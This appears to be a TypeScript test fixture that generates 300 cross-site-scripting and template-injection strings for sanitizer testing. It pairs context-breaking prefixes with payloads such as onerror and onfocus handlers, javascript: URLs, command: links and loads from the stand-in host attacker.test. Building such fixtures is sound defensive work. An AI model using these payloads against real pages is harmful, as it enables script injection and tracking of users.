/** Sets `window.wasAttacked` if a page runs the text as a script. */
const attack = 'window.wasAttacked=1';
const bodies: readonly string[] = [
  `<script>${attack}</script>`,
  `<img src=x onerror="${attack}">`,
  `<img src="http://attacker.test/a.png">`,
  `<svg onload="${attack}">`,
  `<svg><script href="http://attacker.test/a.js"></script></svg>`,
  `<iframe srcdoc="<script>parent.${attack}</script>"></iframe>`,
  `<iframe src="javascript:${attack}"></iframe>`,
  `<a href="javascript:${attack}" autofocus onfocus="${attack}">x</a>`,
  `<a href="command:workbench.action.files.newUntitledFile">x</a>`,
  `[x](command:workbench.action.files.newUntitledFile)`,
  `<form action="http://attacker.test/"><input autofocus onfocus="${attack}"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=http://attacker.test/">`,
  `<base href="http://attacker.test/">`,
  `<link rel="stylesheet" href="http://attacker.test/a.css">`,
  `<style>*{background:url(http://attacker.test/a.png)}</style>`,
  `<div style="background:url(http://attacker.test/a.png)">x</div>`,
  `<video><source onerror="${attack}"></video>`,
  `<details open ontoggle="${attack}">x</details>`,
  `<input autofocus onfocus="${attack}">`,
  `<template shadowrootmode="open"><script>${attack}</script></template>`,
  `<object data="javascript:${attack}"></object>`,
  `<embed src="http://attacker.test/a.swf">`,
  `javascript:${attack}`,
  `\${${attack}}`,
  `{{constructor.constructor("${attack}")()}}`,
  `<!--?lit$123$-->{{lit-0}}`,
  `$(bug) $(sync~spin)`,
  `\\u003cscript>${attack}\\u003c/script>`,
  `&lt;script&gt;${attack}&lt;/script&gt;`,
  `\u202e<script>${attack}</script>\u202c\u0000\n`,
];
const openings: readonly string[] = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</textarea></script>',
  '*/;',
];

/** 300 texts that try to leave their HTML, attribute, script, style or Markdown context. */
export const injections: readonly string[] = openings.flatMap((opening) =>
  bodies.map((body) => opening + body),
);
